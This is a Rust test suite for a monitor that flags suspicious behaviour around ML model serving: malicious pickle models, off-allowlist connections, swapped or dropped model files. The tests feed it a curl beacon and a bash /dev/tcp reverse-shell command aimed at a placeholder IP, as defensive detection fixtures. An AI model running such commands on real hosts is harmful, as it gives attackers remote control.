use super::*;
use crate::observation::{File, FileKey, Scan};
use wb_core::Verdict;

const POLICY: &str = r#"
models = ["/models"]
[[service]]
name = "inference"
cgroup = "/inference"
[[service.allow]]
cidr = "127.0.0.0/8"
[[service.allow]]
host = "hub.example"
port = 443
[deploy]
programs = ["rsync"]
"#;

fn at(milliseconds: i64) -> Timestamp {
    Timestamp::from_millisecond(1_700_000_000_000 + milliseconds).expect("a time")
}

struct Host(Monitor);

impl Host {
    fn new(policy: &str) -> Self {
        let policy = Policy::parse(policy).expect("a policy");
        let mut host = Self(Monitor::new(policy, vec![Some("/inference".to_owned())]));
        host.runs(10, None, "python3 serve.py", 0);
        host
    }

    fn see(&mut self, time: i64, what: What) {
        self.0.observe(Observation { time: at(time), what });
    }

    fn runs(&mut self, pid: u32, parent: Option<u32>, command: &str, time: i64) {
        let arguments: Vec<String> = command.split(' ').map(str::to_owned).collect();
        let program = arguments.first().cloned().unwrap_or_default();
        let cgroup = Some("/inference/worker".to_owned());
        let started = parent.is_some();
        self.see(
            time,
            What::Runs(Running { pid, parent, program, arguments, user: 0, cgroup, started }),
        );
    }

    fn opens(&mut self, pid: u32, inode: u64, time: i64) {
        self.see(time, What::Opened { pid: Some(pid), file: model(inode), since: at(time - 1) });
    }

    fn scanned(&mut self, inode: u64, verdict: Verdict, named: &[&str], time: i64) {
        let scan = Scan {
            sha256: format!("{inode:064}"),
            verdict,
            is_model: true,
            findings: Vec::new(),
            destinations: named.iter().map(|name| (*name).to_owned()).collect(),
        };
        self.see(time, What::Scanned { file: model(inode).key, scan });
    }

    fn connects(&mut self, pid: Option<u32>, address: [u8; 4], time: i64) {
        let connect = Connect {
            pid,
            program: "curl".to_owned(),
            service: Some(0),
            address: address.into(),
            port: 443,
            host: None,
            sni: None,
            transport: "tcp",
            refused: false,
            bytes_out: None,
        };
        self.see(time, What::Connect(connect));
    }

    fn alerts(&mut self) -> Vec<Alert> {
        let told = self.0.take().into_iter();
        told.filter_map(|told| match told {
            Told::Alert(alert) => Some(*alert),
            _ => None,
        })
        .collect()
    }

    fn rules(&mut self) -> Vec<&'static str> {
        self.alerts().iter().map(|alert| alert.rule).collect()
    }
}

fn model(inode: u64) -> File {
    let key = FileKey { device: 1, inode, modified: 0, size: 1 };
    File { key, path: "/models/production_model.pkl".into() }
}

#[test]
fn a_payload_is_told_with_its_model() {
    let mut host = Host::new(POLICY);
    host.opens(10, 1, 1000);
    host.see(1300, What::Fork { pid: 11, parent: 10 });
    host.runs(11, Some(10), "sh -c curl", 1301);
    host.see(1310, What::Fork { pid: 12, parent: 11 });
    host.runs(12, Some(11), "curl -s http://192.0.2.66/beacon", 1311);
    host.connects(Some(12), [192, 0, 2, 66], 1400);
    host.alerts();
    host.scanned(1, Verdict::Malicious, &["192.0.2.66"], 1500);
    let alerts = host.alerts();
    let found = alerts
        .iter()
        .find(|alert| alert.rule == "connection-to-host-named-by-model")
        .expect("told");
    let chain =
        "curl <- sh <- python3 (loaded production_model.pkl, sha256 00000000..., 0.4 s earlier)";
    assert_eq!(found.chain, chain);
    assert_eq!(found.time, at(1400), "told with its own time");
    assert!(alerts.iter().any(|alert| alert.rule == "malicious-model"));
}

#[test]
fn a_connection_does_not_wait_for_ever_for_a_scan() {
    let mut host = Host::new(POLICY);
    host.opens(10, 1, 1000);
    host.connects(Some(10), [192, 0, 2, 66], 1400);
    host.0.tick(at(1500));
    assert!(host.rules().is_empty());
    host.0.tick(at(2101));
    let alerts = host.alerts();
    assert!(alerts.iter().any(|alert| alert.chain.contains("not hashed yet")), "{alerts:?}");
}

#[test]
fn nobody_is_named_when_nobody_is_known() {
    let mut host = Host::new(POLICY);
    host.opens(10, 1, 1000);
    host.scanned(1, Verdict::Clean, &[], 1100);
    host.connects(None, [192, 0, 2, 66], 1400);
    let alerts = host.alerts();
    assert_eq!(
        alerts.iter().map(|alert| alert.chain.as_str()).collect::<Vec<_>>(),
        ["unattributed"]
    );
    assert_eq!(host.0.counts().unattributed, 1);
}

#[test]
fn a_connection_of_nobody_of_any_service_is_recorded_and_no_alert() {
    let mut host = Host::new(POLICY);
    let connect = Connect {
        pid: None,
        program: String::new(),
        service: None,
        address: [192, 0, 2, 66].into(),
        port: 53,
        host: None,
        sni: None,
        transport: "udp",
        refused: false,
        bytes_out: None,
    };
    host.see(0, What::Connect(connect));
    let told = host.0.take();
    assert!(
        matches!(told.as_slice(), [Told::Record(line)] if line.contains("unattributed: 192.0.2.66")),
        "{told:?}"
    );
}

#[test]
fn a_name_in_tls_is_judged_where_a_sensor_tells_it() {
    let mut host = Host::new(&POLICY.replace("host = ", "sni = "));
    let connect = |sni: Option<&str>| {
        What::Connect(Connect {
            pid: None,
            program: String::new(),
            service: Some(0),
            address: [192, 0, 2, 7].into(),
            port: 443,
            host: None,
            sni: sni.map(str::to_owned),
            transport: "tcp",
            refused: false,
            bytes_out: None,
        })
    };
    host.see(0, connect(Some("hub.example")));
    assert!(host.rules().is_empty());
    host.see(10, connect(None));
    let alerts = host.alerts();
    let because = alerts.first().map(|alert| alert.because.concat()).unwrap_or_default();
    assert!(because.contains("`hub.example` is allowed there by its name in TLS"), "{because}");
    let mut other = Host::new(&POLICY.replace("host = ", "sni = "));
    other.see(0, connect(Some("other.example")));
    let alerts = other.alerts();
    let because = alerts.first().map(|alert| alert.because.concat()).expect("told");
    assert!(!because.contains("name in TLS"), "it was seen: {because}");
}

#[test]
fn what_a_connection_sent_is_added_up_when_it_ends() {
    let mut host = Host::new(POLICY);
    let ended = |bytes| What::Ended {
        pid: Some(10),
        service: None,
        address: [192, 0, 2, 66].into(),
        port: 443,
        transport: "tcp",
        bytes,
    };
    host.see(0, ended(10 << 20));
    assert!(host.rules().is_empty(), "a little");
    host.see(1000, ended(10 << 20));
    assert_eq!(host.rules(), ["bytes-out"]);
}

#[test]
fn names_of_the_policy_are_pinned_as_name_servers_answer() {
    let mut host = Host::new(POLICY);
    host.connects(Some(10), [192, 0, 2, 7], 100);
    assert_eq!(host.rules(), ["connection-outside-allowlist"]);
    let answer = Answer {
        service: Some(0),
        name: "hub.example".to_owned(),
        kind: 1,
        addresses: vec![[192, 0, 2, 7].into()],
        seconds: 30,
    };
    host.see(200, What::Answer(answer));
    assert!(host.0.take().iter().any(|told| matches!(told, Told::Allow(0, _))));
    host.connects(Some(10), [192, 0, 2, 7], 300);
    assert!(host.rules().is_empty());
    assert_eq!(host.0.allowed(0).len(), 2, "the network and the pin");
    host.0.tick(at(3 * 3_600_000));
    assert_eq!(host.0.allowed(0).len(), 1);
}

#[test]
fn who_writes_models_is_told_unless_it_deploys() {
    let mut host = Host::new(POLICY);
    host.runs(20, Some(1), "rsync a b", 0);
    host.runs(21, Some(1), "cp a b", 0);
    host.alerts();
    host.see(10, What::Written { pid: Some(20), file: model(1) });
    assert!(host.rules().is_empty());
    host.see(20, What::Written { pid: Some(21), file: model(2) });
    assert_eq!(host.rules(), ["model-file-written"]);
}

#[test]
fn a_program_among_the_models_is_told_unless_the_policy_names_it() {
    let mut host = Host::new(&POLICY.replace("cgroup", "programs = [\"triton\"]\ncgroup"));
    host.opens(10, 1, 0);
    host.scanned(1, Verdict::Clean, &[], 10);
    let file = |name: &str| File { path: format!("/models/{name}").into(), ..model(2) };
    host.see(20, What::Executed { pid: 10, file: file("triton") });
    assert!(host.rules().is_empty());
    host.see(30, What::Executed { pid: 10, file: file("dropped") });
    let alerts = host.alerts();
    let told: Vec<_> = alerts.iter().map(|alert| (alert.rule, alert.chain.as_str())).collect();
    assert_eq!(told, [("program-among-models", "python3")]);
    assert_eq!(alerts.first().map(|alert| alert.service.as_str()), Some("inference"));
}

#[test]
fn what_replaces_a_loaded_model_is_told() {
    let mut host = Host::new(POLICY);
    host.opens(10, 1, 0);
    host.scanned(1, Verdict::Clean, &[], 10);
    host.opens(10, 2, 1000);
    host.scanned(2, Verdict::Clean, &[], 1010);
    assert_eq!(host.rules(), ["changed-model-loaded"]);
    host.opens(10, 2, 2000);
    assert!(host.rules().is_empty(), "and not again");
}

#[test]
fn troubles_come_and_go() {
    let mut host = Host::new(POLICY);
    let trouble = |what: Option<&str>| {
        let what = what.map(str::to_owned);
        What::Trouble(crate::observation::Trouble {
            rule: "policy-broken",
            what,
            ..Default::default()
        })
    };
    host.see(0, trouble(Some("line 3 is wrong")));
    host.see(1, trouble(Some("line 3 is wrong")));
    assert_eq!(host.rules(), ["policy-broken"]);
    host.see(2, trouble(None));
    assert_eq!(host.alerts().first().map(|alert| alert.state), Some(crate::alert::State::Resolved));
}

#[test]
fn observing_raises_no_alert_about_what_is_not_allowed() {
    let mut host = Host::new(&format!("mode = \"observe\"\n{POLICY}"));
    host.connects(Some(10), [192, 0, 2, 7], 100);
    assert!(host.rules().is_empty());
}

#[test]
fn rules_over_events_are_asked_of_what_is_seen() {
    let mut host = Host::new(POLICY);
    host.opens(10, 1, 1000);
    host.scanned(1, Verdict::Clean, &[], 1010);
    host.runs(11, Some(10), "bash -i >& /dev/tcp/192.0.2.66/443 0>&1", 1300);
    let alerts = host.alerts();
    let found = alerts.iter().find(|alert| alert.rule == "reverse-shell").expect("told");
    assert_eq!(
        (found.severity, found.service.as_str()),
        (wb_core::Severity::Critical, "inference")
    );
    assert!(found.techniques.contains(&"T1059.004"));
    assert!(found.chain.starts_with("bash <- python3 (loaded"), "{}", found.chain);
    // What the monitor judges itself is told once, by its own detection.
    assert!(alerts.iter().any(|alert| alert.rule == "serving-process-runs-command"));
    assert!(alerts.iter().all(|alert| alert.rule != "inference-spawns-shell"));
    host.runs(12, Some(10), "python3 worker.py", 1400);
    assert!(host.rules().is_empty());
}
